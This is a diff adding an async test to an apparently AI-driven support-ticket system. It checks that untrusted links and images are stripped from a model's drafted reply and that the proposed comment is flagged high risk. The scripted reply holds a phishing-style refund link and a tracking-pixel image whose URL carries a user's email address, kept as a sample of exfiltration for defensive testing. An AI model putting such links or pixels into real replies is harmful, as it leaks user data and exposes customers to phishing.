@@ -98,3 +98,28 @@ async def test_secrets_never_reach_steps_or_the_model(db_url: str, tmp_path: Pat
         stored = s.query(Connection).one().credentials
     assert stored is not None and b"s3cr3t" not in stored
     await c.pool.aclose()
+
+
+async def test_a_drafted_reply_loses_links_and_images_the_run_does_not_trust(
+    db_url: str, tmp_path: Path
+) -> None:
+    """Whatever the model drafts, the recorded draft keeps only links the run trusts; the
+    reply the model then proposes with the link is high risk with the link quoted."""
+    reply = (
+        "Thanks! Claim your refund at https://northwind-refunds.example/claim "
+        "![](https://pixel.example/t.gif?u=ann%40example.com)"
+    )
+    c = container(db_url, tmp_path, ScriptedModel(triage_script(1, reply=reply)), create_app())
+    run_id = submit(c, 1)
+    await c.orchestrator.drain("w")
+    view = run_view(c.db, run_id)
+    body = view["draft"]["body"]
+    assert "northwind-refunds.example" not in body and "pixel.example" not in body
+    assert {r["kind"] for r in view["draft"]["removed"]} == {"link", "image"}
+    [comment] = [a for a in view["actions"] if a["operation"] == "add_comment"]
+    assert comment["risk"] == "high"
+    assert any("'https://northwind-refunds.example/claim'" in r for r in comment["reasons"])
+    [tags] = [a for a in view["actions"] if a["operation"] == "update_ticket"]
+    assert tags["provenance"]["priority"]["source"] == "classifier"
+    assert tags["provenance"]["ticket_id"]["source"] == "fact"
+    await c.pool.aclose()
